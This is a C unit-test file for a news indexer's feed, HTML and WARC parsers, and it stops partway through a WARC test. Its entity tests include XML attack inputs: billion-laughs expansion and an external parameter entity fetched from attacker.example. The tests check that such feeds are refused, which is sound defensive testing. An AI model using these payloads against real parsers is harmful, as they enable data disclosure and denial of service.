/*
 * test_formats.c: unit tests of the formats beyond plain text and JSON
 * Lines: RSS and Atom feeds (lib/feed.c), HTML pages (lib/html.c), WARC
 * (lib/warc.c) and Reuters-21578 SGML (lib/sgml.c), all read through
 * newsidx_ingest__run() so that format detection and gzip are covered.
 *
 * Good and malformed inputs live in tests/fixtures/formats (see its
 * README.md); the directory is found through $FIXTURES, as make check
 * sets it, else tests/fixtures from the current directory.  Bulky inputs
 * (a feed of 10,000 items, many Reuters stories) and gzip variants are
 * made here.  Every test checks the counters against what the callbacks
 * saw, every article for the fields all formats must fill, and every
 * rejection for a one-line reason and a "where" that names the input.
 */
#define _POSIX_C_SOURCE 200809L /* dup, for the silence test */

#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <zlib.h>

#include "ingest/parsers.h"
#include "util/util.h"

#define N_ELEMS(x) (sizeof(x) / sizeof((x)[0]))

/* ------------------------------------------------------------------ */
/* helpers                                                             */
/* ------------------------------------------------------------------ */

#include "sink.h"

static void sink_init(struct sink *s, const char *name)
{
	sink_setup(s, name, name, 0, 1);
}

static newsidx_status_t run_mem(struct sink *s, const void *data,
				size_t len)
{
	newsidx_status_t st = newsidx_ingest__run(&s->ing, NULL, data, len);

	ck_assert_uint_eq(s->ing.articles, s->nart);
	ck_assert_uint_eq(s->ing.rejected, s->nrej);
	return st;
}

static const char *fixtures(void)
{
	const char *f = getenv("FIXTURES");

	return f && *f ? f : "tests/fixtures";
}

/* The bytes of fixture formats/NAME (malloc'd). */
static char *fixture(const char *name, size_t *len)
{
	char path[4096];
	FILE *f;
	char *data;
	long n;

	snprintf(path, sizeof(path), "%s/formats/%s", fixtures(), name);
	f = fopen(path, "rb");
	ck_assert_msg(f != NULL, "cannot open %s (set FIXTURES)", path);
	ck_assert_int_eq(fseek(f, 0, SEEK_END), 0);
	n = ftell(f);
	ck_assert_int_ge(n, 0);
	rewind(f);
	data = malloc((size_t)n + 1);
	ck_assert_ptr_nonnull(data);
	ck_assert_uint_eq(fread(data, 1, (size_t)n, f), (size_t)n);
	data[n] = '\0';
	fclose(f);
	*len = (size_t)n;
	return data;
}

/* Run the reader over fixture NAME, named NAME in messages. */
static newsidx_status_t run_fixture(struct sink *s, const char *name)
{
	size_t len;
	char *data = fixture(name, &len);
	newsidx_status_t st;

	sink_init(s, name);
	st = run_mem(s, data, len);
	free(data);
	return st;
}

/* One gzip member (malloc'd). */
static unsigned char *gz(const void *data, size_t len, size_t *outlen)
{
	z_stream z;
	unsigned char *out;
	uLong cap;

	memset(&z, 0, sizeof(z));
	ck_assert_int_eq(deflateInit2(&z, 6, Z_DEFLATED, 15 + 16, 8,
				      Z_DEFAULT_STRATEGY),
			 Z_OK);
	cap = deflateBound(&z, (uLong)len) + 64;
	out = malloc(cap);
	ck_assert_ptr_nonnull(out);
	z.next_in = (Bytef *)data;
	z.avail_in = (uInt)len;
	z.next_out = out;
	z.avail_out = (uInt)cap;
	ck_assert_int_eq(deflate(&z, Z_FINISH), Z_STREAM_END);
	*outlen = (size_t)z.total_out;
	deflateEnd(&z);
	return out;
}

static int starts_with(const char *s, const char *prefix)
{
	return strncmp(s, prefix, strlen(prefix)) == 0;
}

/* ------------------------------------------------------------------ */
/* feeds                                                               */
/* ------------------------------------------------------------------ */

START_TEST(test_rss)
{
	struct sink s;
	struct rec *r;

	ck_assert_int_eq(run_fixture(&s, "rss.xml"), NEWSIDX_OK);
	ck_assert_uint_eq(s.nrej, 0);
	ck_assert_uint_eq(s.nart, 3);

	r = &s.art[0];
	ck_assert_str_eq(r->id, "gazette-1001");
	ck_assert_str_eq(r->title, "Ferry pier reopens after storm repairs");
	ck_assert_str_eq(r->url, "https://gazette.example/2024/03/ferry-pier");
	ck_assert_str_eq(r->date, "20240307050000");
	ck_assert_int_eq(r->tz, 330);
	ck_assert_int_eq(r->has_time, 1);
	ck_assert_str_eq(r->authors, "Mara Quill");
	ck_assert_str_eq(r->topics, "Transport, Weather");
	ck_assert_str_eq(r->source, "Harbour Gazette");
	ck_assert_str_eq(r->lang, "en");
	ck_assert_str_eq(r->place, "Kochi");
	ck_assert_str_eq(r->path, "rss.xml");
	ck_assert_uint_eq(r->record, 1);
	/* content:encoded wins over description; HTML becomes text */
	ck_assert_str_eq(r->body,
			 "KOCHI, March 7 (Harbour Gazette) - The ferry pier "
			 "damaged by last month's storm reopened on Thursday, "
			 "and the first boat carried forty passengers and a "
			 "marmoset in a basket.\n\nEngineers said the new "
			 "pilings would last & hold for decades.");

	r = &s.art[1];
	/* no guid: the link is the id; an escaped entity in the title */
	ck_assert_str_eq(r->id, "https://gazette.example/2024/03/keeper");
	ck_assert_str_eq(r->title, "Lighthouse keeper & the night fog");
	ck_assert_str_eq(r->date, "20240309041500");
	ck_assert_int_eq(r->tz, -300);
	ck_assert_str_eq(r->authors, "Ian Brook, Lea Morn");
	ck_assert_ptr_null(r->topics);
	ck_assert_str_eq(r->place, "New Delhi");
	ck_assert(starts_with(r->body, "New Delhi: The fog stayed"));

	r = &s.art[2];
	/* neither title nor link nor guid */
	ck_assert_str_eq(r->id, "rss.xml#3");
	ck_assert_str_eq(r->title, "Tide tables for the week ahead are now "
				   "posted at the harbour office");
	ck_assert_ptr_null(r->url);
	ck_assert_str_eq(r->date, "20240309080000");
	ck_assert_uint_eq(r->record, 3);
	sink_free(&s);
}
END_TEST

START_TEST(test_atom)
{
	struct sink s;
	struct rec *r;

	ck_assert_int_eq(run_fixture(&s, "atom.xml"), NEWSIDX_OK);
	ck_assert_uint_eq(s.nrej, 0);
	ck_assert_uint_eq(s.nart, 3);

	r = &s.art[0];
	ck_assert_str_eq(r->id, "tag:courier.example,2024:orchard-frost");
	ck_assert_str_eq(r->title, "Orchard frost alert lifted");
	ck_assert_str_eq(r->url, "https://courier.example/orchard-frost");
	/* published, not updated; -07:00 to UTC */
	ck_assert_str_eq(r->date, "20240402053000");
	ck_assert_int_eq(r->tz, -420);
	ck_assert_str_eq(r->authors, "Pia Lund");
	ck_assert_str_eq(r->topics, "Agriculture, weather");
	ck_assert_str_eq(r->source, "Valley Courier");
	ck_assert_str_eq(r->lang, "en");
	ck_assert_str_eq(r->body,
			 "Growers in the valley can stop running their wind "
			 "machines, the weather office said, as the cold air "
			 "moved east and the quince blossoms survived.");

	r = &s.art[1];
	/* only updated; xhtml content; the feed's author */
	ck_assert_str_eq(r->date, "20240402070000");
	ck_assert_int_eq(r->tz, 120);
	ck_assert_str_eq(r->authors, "Courier Staff");
	ck_assert_str_eq(r->url, "https://courier.example/bridge-vote");
	ck_assert_str_eq(r->body, "The council will vote on the footbridge "
				  "plan in May.\n\nResidents asked for a "
				  "wider deck.");

	r = &s.art[2];
	/* xml:lang on the entry; summary only; no link */
	ck_assert_str_eq(r->lang, "de");
	ck_assert_ptr_null(r->url);
	ck_assert(starts_with(r->body, "Der Gemeinderat"));
	sink_free(&s);
}
END_TEST

/* RSS 1.0 (RDF): items beside the channel, Dublin Core fields. */
START_TEST(test_rss1)
{
	static const char in[] =
		"<?xml version=\"1.0\"?>\n"
		"<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\""
		" xmlns=\"http://purl.org/rss/1.0/\""
		" xmlns:dc=\"http://purl.org/dc/elements/1.1/\">\n"
		"<channel rdf:about=\"https://rdf.example/\"><title>RDF "
		"Post</title><dc:language>nl</dc:language></channel>\n"
		"<item rdf:about=\"https://rdf.example/1\"><title>Dijk "
		"versterkt</title><link>https://rdf.example/1</link>"
		"<dc:date>2024-01-05T12:00:00+01:00</dc:date>"
		"<dc:subject>Water</dc:subject>"
		"<description>De dijk is versterkt.</description></item>\n"
		"</rdf:RDF>\n";
	struct sink s;

	sink_init(&s, "rdf");
	ck_assert_int_eq(run_mem(&s, in, strlen(in)), NEWSIDX_OK);
	ck_assert_uint_eq(s.nrej, 0);
	ck_assert_uint_eq(s.nart, 1);
	ck_assert_str_eq(s.art[0].id, "https://rdf.example/1");
	ck_assert_str_eq(s.art[0].title, "Dijk versterkt");
	ck_assert_str_eq(s.art[0].date, "20240105110000");
	ck_assert_str_eq(s.art[0].topics, "Water");
	ck_assert_str_eq(s.art[0].source, "RDF Post");
	ck_assert_str_eq(s.art[0].lang, "nl");
	sink_free(&s);
}
END_TEST

/* Recognised by content: a BOM, white space, comments, a doctype
 * without entities, and gzip, whatever the name. */
START_TEST(test_feed_sniff)
{
	static const char *const heads[] = {
		"\xef\xbb\xbf<?xml version=\"1.0\"?>\n",
		"\n\n  <!-- a comment -->\n",
		"<?xml version=\"1.0\"?><!DOCTYPE rss PUBLIC \"-//Netscape "
		"Communications//DTD RSS 0.91//EN\" "
		"\"http://my.netscape.com/publish/formats/rss-0.91.dtd\">\n",
		"<?xml-stylesheet href=\"s.xsl\"?>",
	};
	static const char body[] =
		"<rss version=\"2.0\"><channel><title>T</title><item><title>"
		"Sniffed</title><guid>g</guid></item></channel></rss>\n";
	char in[1024];
	struct sink s;
	size_t i, zl;
	unsigned char *z;

	for (i = 0; i < N_ELEMS(heads); i++) {
		snprintf(in, sizeof(in), "%s%s", heads[i], body);
		sink_init(&s, "feed.txt");
		ck_assert_int_eq(run_mem(&s, in, strlen(in)), NEWSIDX_OK);
		ck_assert_msg(s.nrej == 0, "%zu: %s", i, s.rej[0].reason);
		ck_assert_uint_eq(s.nart, 1);
		ck_assert_str_eq(s.art[0].title, "Sniffed");
		sink_free(&s);
	}
	z = gz(body, strlen(body), &zl);
	sink_init(&s, "feed.json");
	ck_assert_int_eq(run_mem(&s, z, zl), NEWSIDX_OK);
	ck_assert_uint_eq(s.nart, 1);
	ck_assert_str_eq(s.art[0].id, "g");
	sink_free(&s);
	free(z);
}
END_TEST

/* A feed of n items, every tenth with HTML in its description. */
static char *make_feed(size_t n, size_t *len)
{
	struct newsidx_buf b = { 0 };
	size_t i;
	int rc = 0;

	newsidx_buf__puts(&b, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
			      "<rss version=\"2.0\"><channel><title>Bulk "
			      "Wire</title>\n",
			  &rc);
	for (i = 1; i <= n; i++)
		newsidx_buf__printf(
			&b, &rc,
			"<item><title>Item %zu</title><guid>bulk-%zu</guid>"
			"<pubDate>Mon, 04 Mar 2024 %02zu:%02zu:00 +0100"
			"</pubDate><category>c%zu</category><description>"
			"%sParagraph %zu about ferries, storms and the "
			"harbour.%s</description></item>\n",
			i, i, i / 60 % 24, i % 60, i % 7,
			i % 10 ? "" : "&lt;p&gt;", i, i % 10 ? "" : "&lt;/p&gt;");
	newsidx_buf__puts(&b, "</channel></rss>\n", &rc);
	ck_assert_int_eq(rc, 0);
	*len = b.len;
	return b.data;
}

START_TEST(test_feed_10000)
{
	size_t len, zl;
	char *feed = make_feed(10000, &len);
	unsigned char *z;
	struct sink s;
	int pass;

	z = gz(feed, len, &zl);
	for (pass = 0; pass < 2; pass++) {
		sink_init(&s, "bulk.xml");
		if (pass == 0)
			ck_assert_int_eq(run_mem(&s, feed, len), NEWSIDX_OK);
		else
			ck_assert_int_eq(run_mem(&s, z, zl), NEWSIDX_OK);
		ck_assert_uint_eq(s.nrej, 0);
		ck_assert_uint_eq(s.nart, 10000);
		ck_assert_uint_eq(s.last_record, 10000);
		ck_assert_str_eq(s.art[0].id, "bulk-1");
		ck_assert_str_eq(s.art[0].date, "20240303230100");
		ck_assert_str_eq(s.art[9].body,
				 "Paragraph 10 about ferries, storms and the "
				 "harbour.");
		ck_assert_str_eq(s.art[9].topics, "c3");
		sink_free(&s);
	}
	free(z);
	free(feed);
}
END_TEST

START_TEST(test_feed_bad_xml)
{
	struct sink s;

	ck_assert_int_eq(run_fixture(&s, "bad-xml.xml"), NEWSIDX_OK);
	/* the fault is reported at its line and column, and the items
	 * around it are still indexed */
	ck_assert_uint_eq(s.nrej, 1);
	ck_assert_str_eq(s.rej[0].where, "bad-xml.xml:11:48");
	ck_assert(starts_with(s.rej[0].reason, "not well-formed XML: "));
	ck_assert(strstr(s.rej[0].reason,
			 "; 3 items could be recovered and were indexed"));
	ck_assert_uint_eq(s.nart, 3);
	ck_assert_str_eq(s.art[0].id, "broken-1");
	ck_assert_str_eq(s.art[2].id, "broken-3");
	sink_free(&s);
}
END_TEST

/* Entity declarations of any kind refuse the whole feed, before any
 * expansion: billion laughs, external entities, parameter entities. */
static const struct {
	const char *fixture; /* or NULL and in */
	const char *in;
	const char *where;
} entity_cases[] = {
	{ "bad-billion-laughs.xml", NULL, "bad-billion-laughs.xml:3" },
	{ "bad-xxe.xml", NULL, "bad-xxe.xml:3" },
	{ NULL,
	  "<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "
	  "\"http://attacker.example/x.dtd\"> %p;]><rss><channel><item>"
	  "<title>t</title></item></channel></rss>",
	  "input:1" },
	{ NULL,
	  "<!DOCTYPE rss [<!ENTITY a \"aaaaaaaaaaaaaaaaaaaaaaaaaaaa\">]>"
	  "<rss><channel><item><title>&a;&a;</title></item></channel>"
	  "</rss>",
	  "input:1" },
	{ NULL,
	  "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">"
	  "<!ENTITY lol2 \"&lol;&lol;\">]><lolz>&lol2;</lolz>",
	  "input:1" },
};

START_TEST(test_feed_entities)
{
	struct sink s;

	if (entity_cases[_i].fixture) {
		ck_assert_int_eq(run_fixture(&s, entity_cases[_i].fixture),
				 NEWSIDX_OK);
	} else {
		sink_init(&s, "input");
		ck_assert_int_eq(run_mem(&s, entity_cases[_i].in,
					 strlen(entity_cases[_i].in)),
				 NEWSIDX_OK);
	}
	ck_assert_uint_eq(s.nart, 0);
	ck_assert_uint_eq(s.nrej, 1);
	ck_assert_str_eq(s.rej[0].where, entity_cases[_i].where);
	ck_assert_str_eq(s.rej[0].reason,
			 "feed declares entities in a DTD; refusing it");
	sink_free(&s);
}
END_TEST

START_TEST(test_feed_not_a_feed)
{
	struct sink s;

	ck_assert_int_eq(run_fixture(&s, "bad-root.xml"), NEWSIDX_OK);
	ck_assert_uint_eq(s.nart, 0);
	ck_assert_uint_eq(s.nrej, 1);
	ck_assert_str_eq(s.rej[0].where, "bad-root.xml");
	ck_assert_str_eq(s.rej[0].reason,
			 "XML document with root element <urlset>; not an "
			 "RSS or Atom feed");
	sink_free(&s);
}
END_TEST

START_TEST(test_feed_truncated_gzip)
{
	struct sink s;

	ck_assert_int_eq(run_fixture(&s, "bad-truncated.xml.gz"), NEWSIDX_OK);
	/* the item wholly before the fault is kept */
	ck_assert_uint_eq(s.nart, 1);
	ck_assert_str_eq(s.art[0].id, "gazette-1001");
	ck_assert_uint_eq(s.nrej, 1);
	ck_assert_str_eq(s.rej[0].where,
			 "bad-truncated.xml.gz: offset 1575 (uncompressed)");
	ck_assert(starts_with(s.rej[0].reason, "truncated gzip data"));
	ck_assert(strstr(s.rej[0].reason, "; the items before it were "
					  "indexed"));
	sink_free(&s);
}
END_TEST

/* Bad items are rejected with their line; the others are indexed. */
START_TEST(test_feed_bad_items)
{
	static const char in[] =
		"<rss version=\"2.0\"><channel><title>T</title>\n"
		"<item><title>Good one</title><guid>a</guid></item>\n"
		"<item><link>https://x.example/</link></item>\n"
		"<item><title>Bad date</title><pubDate>someday</pubDate>"
		"</item>\n"
		"<item><title>Good two</title><guid>b</guid></item>\n"
		"</channel></rss>\n";
	struct sink s;

	sink_init(&s, "items.xml");
	ck_assert_int_eq(run_mem(&s, in, strlen(in)), NEWSIDX_OK);
	ck_assert_uint_eq(s.nart, 2);
	ck_assert_str_eq(s.art[0].id, "a");
	ck_assert_str_eq(s.art[1].id, "b");
	ck_assert_uint_eq(s.art[1].record, 4);
	ck_assert_uint_eq(s.nrej, 2);
	ck_assert_str_eq(s.rej[0].where, "items.xml:3");
	ck_assert_str_eq(s.rej[0].reason, "item 2 has no title and no content");
	ck_assert_str_eq(s.rej[1].where, "items.xml:4");
	ck_assert_str_eq(s.rej[1].reason,
			 "item 3: unrecognised date 'someday'");
	sink_free(&s);
}
END_TEST

/* Garbage that starts like XML is reported with a position. */
START_TEST(test_feed_garbage)
{
	static const char *const ins[] = {
		"<?xml version=\"1.0\"?>",
		"<?xml version=\"1.0\"?><rss",
		"<rss><channel><item><title>x</title></item>",
		"<feed xmlns=\"http://www.w3.org/2005/Atom\">\x01</feed>",
	};
	struct sink s;
	size_t i;

	for (i = 0; i < N_ELEMS(ins); i++) {
		sink_init(&s, "g");
		ck_assert_int_eq(run_mem(&s, ins[i], strlen(ins[i])),
				 NEWSIDX_OK);
		ck_assert_uint_eq(s.nrej, 1);
		ck_assert(starts_with(s.rej[0].where, "g"));
		sink_free(&s);
	}
}
END_TEST

START_TEST(test_feed_stop)
{
	size_t len;
	char *feed = make_feed(50, &len);
	struct sink s;

	sink_init(&s, "stop.xml");
	s.stop = NEWSIDX_ERROR;
	ck_assert_int_eq(run_mem(&s, feed, len), NEWSIDX_ERROR);
	ck_assert_uint_eq(s.nart, 1);
	sink_free(&s);
	free(feed);
}
END_TEST

/* Articles larger than max_article are rejected in every format. */
START_TEST(test_max_article)
{
	static const char feed[] =
		"<rss><channel><title>T</title>\n"
		"<item><title>Long</title><description>0123456789 0123456789 "
		"0123456789 0123456789</description></item>\n"
		"<item><title>Short</title><description>short</description>"
		"</item>\n</channel></rss>";
	struct newsidx_buf page = { 0 };
	struct sink s;
	int rc = 0, i;

	sink_init(&s, "f.xml");
	s.ing.max_article = 20;
	ck_assert_int_eq(run_mem(&s, feed, strlen(feed)), NEWSIDX_OK);
	ck_assert_uint_eq(s.nart, 1);
	ck_assert_str_eq(s.art[0].title, "Short");
	ck_assert_uint_eq(s.nrej, 1);
	ck_assert_str_eq(s.rej[0].where, "f.xml:2");
	ck_assert_str_eq(s.rej[0].reason, "article is larger than 20 bytes "
					  "(see --max-article-size)");
	sink_free(&s);

	/* a page more than 8 times that is not even parsed */
	newsidx_buf__puts(&page, "<html><body>", &rc);
	for (i = 0; i < 40; i++)
		newsidx_buf__puts(&page, "<p>some words</p>", &rc);
	ck_assert_int_eq(rc, 0);
	sink_init(&s, "p.html");
	s.ing.max_article = 20;
	ck_assert_int_eq(run_mem(&s, page.data, page.len), NEWSIDX_OK);
	ck_assert_uint_eq(s.nart, 0);
	ck_assert_uint_eq(s.nrej, 1);
	ck_assert_str_eq(s.rej[0].reason, "page is larger than 160 bytes (8 "
					  "times --max-article-size)");
	sink_free(&s);
	newsidx_buf__free(&page);
}
END_TEST

START_TEST(test_max_document)
{
	size_t len;
	char *feed = make_feed(100, &len);
	struct sink s;

	sink_init(&s, "big.xml");
	s.ing.max_document = 1000;
	ck_assert_int_eq(run_mem(&s, feed, len), NEWSIDX_OK);
	ck_assert_uint_eq(s.nart, 0);
	ck_assert_uint_eq(s.nrej, 1);
	ck_assert_str_eq(s.rej[0].where, "big.xml");
	ck_assert_str_eq(s.rej[0].reason,
			 "file is larger than 1000 bytes, the limit for "
			 "feeds, HTML pages and SGML files");
	sink_free(&s);
	free(feed);
}
END_TEST

/* ------------------------------------------------------------------ */
/* HTML pages                                                          */
/* ------------------------------------------------------------------ */

START_TEST(test_html_page)
{
	struct sink s;
	struct rec *r;

	sink_init(&s, "page.html");
	{
		size_t len;
		char *data = fixture("page.html", &len);

		/* "ibex" appears only in scripts, styles, navigation,
		 * asides, footers and related stories */
		s.needle = "ibex";
		ck_assert_int_eq(run_mem(&s, data, len), NEWSIDX_OK);
		free(data);
	}
	ck_assert_uint_eq(s.nrej, 0);
	ck_assert_uint_eq(s.nart, 1);
	ck_assert_int_eq(s.any_body_has, 0);
	r = &s.art[0];
	ck_assert_str_eq(r->title, "Glacier museum opens in the old station");
	ck_assert_str_eq(r->date, "20240517143000");
	ck_assert_int_eq(r->tz, 120);
	ck_assert_str_eq(r->url,
			 "https://herald.example/culture/glacier-museum");
	ck_assert_str_eq(r->id, r->url);
	ck_assert_str_eq(r->source, "Alpine Herald");
	ck_assert_str_eq(r->lang, "en");
	ck_assert_str_eq(r->authors, "Nina Brandt");
	ck_assert_str_eq(r->topics, "Culture, Museums");
	ck_assert_str_eq(r->place, "Zermatt");
	ck_assert_str_eq(r->body,
			 "ZERMATT, May 17 (Alpine Herald) - A museum about the "
			 "retreating glacier opened on Friday in the old "
			 "railway station, with ice cores, photographs and a "
			 "model of the valley as it looked a century ago.\n\n"
			 "The curator said visitors could touch a block of ice "
			 "that is four hundred years old, kept at minus "
			 "eighteen degrees in a glass case.\n\nThe ice core "
			 "room.\n\nEntry is free for children.");
	sink_free(&s);
}
END_TEST

START_TEST(test_html_jsonld)
{
	struct sink s;
	struct rec *r;

	ck_assert_int_eq(run_fixture(&s, "page-jsonld.html"), NEWSIDX_OK);
	ck_assert_uint_eq(s.nrej, 0);
	ck_assert_uint_eq(s.nart, 1);
	r = &s.art[0];
	/* <title> less the site's name */
	ck_assert_str_eq(r->title, "Le march\xc3\xa9 couvert rouvre ses portes");
	ck_assert_str_eq(r->date, "20240603054500");
	ck_assert_str_eq(r->authors, "Claire Vidal, Marc Roux");
	ck_assert_str_eq(r->source, "Journal du Lac");
	ck_assert_str_eq(r->lang, "fr");
	ck_assert_ptr_null(r->url);
	ck_assert_str_eq(r->id, "page-jsonld.html");
	ck_assert(starts_with(r->body, "Le march\xc3\xa9 couvert de la "));
	ck_assert(!strstr(r->body, "Accueil"));
	ck_assert(!strstr(r->body, "Mentions"));
	sink_free(&s);
}
END_TEST

START_TEST(test_html_time)
{
	struct sink s;
	struct rec *r;

	ck_assert_int_eq(run_fixture(&s, "page-time.html"), NEWSIDX_OK);
	ck_assert_uint_eq(s.nrej, 0);
	ck_assert_uint_eq(s.nart, 1);
	r = &s.art[0];
	/* <h1>, <time datetime>, ISO-8859-1 from the meta tag */
	ck_assert_str_eq(r->title, "Rowing club wins the autumn regatta");
	ck_assert_str_eq(r->date, "20231014220500");
	ck_assert_int_eq(r->tz, -240);
	ck_assert_ptr_null(r->source);
	ck_assert_str_eq(r->lang, "en");
	ck_assert(starts_with(r->body, "The Riverside rowing club won"));
	ck_assert(strstr(r->body, "the H\xc3\xa9ron, goes to the museum at "
				  "the caf\xc3\xa9 by the weir."));
	ck_assert(!strstr(r->body, "comment"));
	ck_assert(!strstr(r->body, "Riverside Post"));
	sink_free(&s);
}
END_TEST

/* A DOCTYPE with an internal subset, which libxml2's HTML parser does
 * not know: its end, "]>", once leaked into the article's text. */
START_TEST(test_html_dtd_subset)
{
	static const char page[] =
		"\xef\xbb\xbf <!doctype html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" "
		"\"x.dtd\" [\n<!ENTITY foo \"bar]>\">\n<!ELEMENT p ANY>\n] >\n"
		"<html><head><title>Okapi news</title></head><body><article>"
		"<p>The okapi census counted forty okapis in the forest "
		"reserve this week.</p></article></body></html>\n";
	struct sink s;

	sink_setup(&s, "dtd.html", "/x/dtd.html", 0, 1);
	ck_assert_int_eq(run_mem(&s, page, sizeof(page) - 1), NEWSIDX_OK);
	ck_assert_uint_eq(s.nart, 1);
	ck_assert_str_eq(s.art[0].title, "Okapi news");
	ck_assert_str_eq(s.art[0].body, "The okapi census counted forty "
					"okapis in the forest reserve this "
					"week.");
	sink_free(&s);
}
END_TEST

START_TEST(test_html_no_body)
{
	static const char *const ins[] = {
		"<html><body><nav>Only a menu</nav><script>x()</script>"
		"</body></html>",
		"<!DOCTYPE html><html></html>",
	};
	struct sink s;
	size_t i;

	ck_assert_int_eq(run_fixture(&s, "bad-nobody.html"), NEWSIDX_OK);
	ck_assert_uint_eq(s.nart, 0);
	ck_assert_uint_eq(s.nrej, 1);
	ck_assert_str_eq(s.rej[0].where, "bad-nobody.html");
	ck_assert_str_eq(s.rej[0].reason, "no article text in the page (no "
					  "<body>, or nothing in it)");
	sink_free(&s);
	for (i = 0; i < N_ELEMS(ins); i++) {
		sink_init(&s, "p");
		ck_assert_int_eq(run_mem(&s, ins[i], strlen(ins[i])),
				 NEWSIDX_OK);
		ck_assert_uint_eq(s.nart, 0);
		ck_assert_uint_eq(s.nrej, 1);
		sink_free(&s);
	}
}
END_TEST

/* A page deeper than any recursion could take is walked fine. */
START_TEST(test_html_deep)
{
	struct newsidx_buf b = { 0 };
	struct sink s;
	int rc = 0, i;

	newsidx_buf__puts(&b, "<html><head><title>Deep</title></head><body>",
			  &rc);
	for (i = 0; i < 20000; i++)
		newsidx_buf__puts(&b, "<div>", &rc);
	newsidx_buf__puts(&b, "<p>Deep down there is a paragraph of text "
			      "that is long enough to count as one.</p>",
			  &rc);
	ck_assert_int_eq(rc, 0);
	sink_init(&s, "deep.html");
	ck_assert_int_eq(run_mem(&s, b.data, b.len), NEWSIDX_OK);
	ck_assert_uint_eq(s.nart + s.nrej, 1);
	sink_free(&s);
	newsidx_buf__free(&b);
}
END_TEST

START_TEST(test_html_text)
{
	static const struct {
		const char *in, *out;
	} cases[] = {
		{ "plain text", "plain text" },
		{ "  a\n b  ", "a b" },
		{ "<p>one</p><p>two</p>", "one\n\ntwo" },
		{ "a<br>b", "a\nb" },
		{ "x &amp; y &eacute;", "x & y \xc3\xa9" },
		{ "<b>bold</b> <i>it</i>", "bold it" },
		{ "<script>bad()</script><style>p{}</style>ok", "ok" },
		{ "<table><tr><td>1</td><td>2</td></tr></table>", "1 2" },
		{ "<pre>a  b</pre>", "a  b" },
		{ "", "" },
	};
	size_t i;

	for (i = 0; i < N_ELEMS(cases); i++) {
		struct newsidx_buf b = { 0 };

		ck_assert_int_eq(newsidx_html__text(cases[i].in,
						    strlen(cases[i].in), &b),
				 0);
		ck_assert_str_eq(b.data ? b.data : "", cases[i].out);
		newsidx_buf__free(&b);
	}
}
END_TEST

/* ------------------------------------------------------------------ */
/* WARC                                                                */
/* ------------------------------------------------------------------ */

static void check_crawl(struct sink *s)
{
	struct rec *r;

	ck_assert_uint_eq(s->nart, 2);
	/* warcinfo, request, image, 404, metadata, revisit */
	ck_assert_uint_eq(s->ing.skipped, 6);
	r = &s->art[0];
	ck_assert_str_eq(r->id, "https://www.estuary.example/marsh");
	ck_assert_str_eq(r->url, r->id);
	ck_assert_str_eq(r->title, "Salt marsh restored");
	/* the page's own date wins over WARC-Date */
	ck_assert_str_eq(r->date, "20240220080000");
	ck_assert_str_eq(r->source, "Estuary News");
	ck_assert_uint_eq(r->record, 3);
	ck_assert(starts_with(r->body, "Volunteers finished replanting"));
	ck_assert(!strstr(r->body, "footer"));
	r = &s->art[1];
	/* chunked and gzipped; the WARC-Date and the host fill in */
	ck_assert_str_eq(r->id, "http://square.example:8080/night-market?x=1");
	ck_assert_str_eq(r->title, "Night market returns to the square");
	ck_assert_str_eq(r->date, "20240302183000");
	ck_assert_int_eq(r->tz, 60);
	ck_assert_str_eq(r->source, "square.example");
	ck_assert_uint_eq(r->record, 5);
	ck_assert(strstr(r->body, "hand-made kites"));
}

START_TEST(test_warc)
{
	static const char *const names[] = { "crawl.warc", "crawl.warc.gz" };
	struct sink s;

	ck_assert_int_eq(run_fixture(&s, names[_i]), NEWSIDX_OK);
	ck_assert_uint_eq(s.nrej, 0);
	check_crawl(&s);
	sink_free(&s);
}
END_TEST

/* Reading a path (zlib's gzread) gives what reading memory gives. */
START_TEST(test_warc_path)
{
	char path[4096];
	struct sink s;

	snprintf(path, sizeof(path), "%s/formats/crawl.warc.gz", fixtures());
	sink_init(&s, "crawl.warc.gz");
	ck_assert_int_eq(newsidx_ingest__run(&s.ing, path, NULL, 0),
			 NEWSIDX_OK);
	ck_assert_uint_eq(s.nrej, 0);
	check_crawl(&s);
	sink_free(&s);
}
END_TEST

START_TEST(test_warc_bad_length)
{
	struct sink s;

	ck_assert_int_eq(run_fixture(&s, "bad-length.warc"), NEWSIDX_OK);
	ck_assert_uint_eq(s.nrej, 1);
	ck_assert_str_eq(s.rej[0].where, "bad-length.warc: offset 544 "
					 "(record 3)");
	ck_assert(starts_with(s.rej[0].reason, "Content-Length (738) does "
					       "not match the record"));
	/* the reader found record 4 again and carried on */
	ck_assert_uint_eq(s.nart, 1);
	ck_assert_uint_eq(s.art[0].record, 5);
	ck_assert_uint_eq(s.ing.skipped, 6);
	sink_free(&s);
}
END_TEST

START_TEST(test_warc_truncated)
{
	struct sink s;

	ck_assert_int_eq(run_fixture(&s, "bad-truncated.warc.gz"), NEWSIDX_OK);
	ck_assert_uint_eq(s.nart, 2);
	ck_assert_uint_eq(s.nrej, 1);
	ck_assert(starts_with(s.rej[0].where,
			      "bad-truncated.warc.gz: offset "));
	ck_assert(starts_with(s.rej[0].reason, "truncated gzip data"));
	sink_free(&s);
}
END_TEST

/* Records made here: no Content-Length, a block cut short by the end
 * of the file.  (Junk after a record is indistinguishable from a wrong
 * Content-Length: see bad-length.warc.) */
START_TEST(test_warc_malformed)
{
	static const char rec1[] =
		"WARC/1.1\r\nWARC-Type: warcinfo\r\nContent-Length: 4\r\n\r\n"
		"abcd\r\n\r\n";
	static const char nolen[] =
		"WARC/1.0\r\nWARC-Type: metadata\r\n\r\nxyz\r\n\r\n";
	static const char cut[] =
		"WARC/1.0\r\nWARC-Type: resource\r\nContent-Length: 100\r\n"
		"\r\nshort";
	char in[1024];
	struct sink s;

	snprintf(in, sizeof(in), "%s%s%s%s", rec1, nolen, rec1, cut);
	sink_init(&s, "m.warc");
	ck_assert_int_eq(run_mem(&s, in, strlen(in)), NEWSIDX_OK);
	ck_assert_uint_eq(s.nart, 0);
	ck_assert_uint_eq(s.ing.skipped, 2);
	ck_assert_uint_eq(s.nrej, 2);
	ck_assert_str_eq(s.rej[0].where, "m.warc: offset 60 (record 2)");
	ck_assert_str_eq(s.rej[0].reason,
			 "record has no valid Content-Length");
	ck_assert_str_eq(s.rej[1].where, "m.warc: offset 160 (record 4)");
